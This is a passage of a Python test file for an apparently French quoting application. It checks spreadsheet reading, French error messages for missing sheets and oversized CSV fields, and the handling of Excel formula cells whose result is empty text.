    assert read_sheets(tmp_path / "deux.xlsx") == ([["Désignation"]], ["Devis", "Options"])
    assert read_sheets(tmp_path / "deux.xlsx", "Options")[0] == [["Housse"]]
    with raises_worded(SpreadsheetError, "feuille « Autre » absente ; feuilles : Devis, Options"):
        read_sheets(tmp_path / "deux.xlsx", "Autre")


def test_a_csv_the_csv_module_cannot_read_is_refused_in_french(tmp_path):
    """« CSV illisible (field larger than field limit (131072)) »: the csv module's English."""
    from socle_desktop.export.spreadsheet import read_csv_bytes

    data = ("Désignation;Qté;PU HT\n\"" + "x" * 200_000 + "\";1;10\n").encode("utf-8")
    with pytest.raises(SpreadsheetError) as refused:
        read_csv_bytes(data)
    assert error_text(refused.value) == "CSV illisible (une cellule dépasse 131\u202f072 caractères)."


def test_a_formula_whose_result_is_empty_text_is_an_empty_cell_not_an_uncomputed_formula(tmp_path):
    """Excel writes =SI(…;"";…) that came out empty as <c t="str"><f>…</f><v></v></c>: a value, the
    empty text. Taken for a formula never computed, it refused the row (« ouvrez-le dans Excel »)."""
    import re

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Désignation", "Qté", "PU HT", "UAI", "Catégorie"])
    sheet.append(["Câble", 2, 10, "0439901D", 0])
    workbook.save(tmp_path / "source.xlsx")
    path = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(tmp_path / "source.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<c r="E2"[^>]*>.*?</c>',
                                      b'<c r="E2" t="str"><f>IF(B2&gt;0,"","?")</f><v></v></c>', data)
                assert count == 1
            target.writestr(item, data)
    table = lines_of(path)
    assert [line.libelle for _row, line in table.lines] == ["Câble"] and table.refused == []
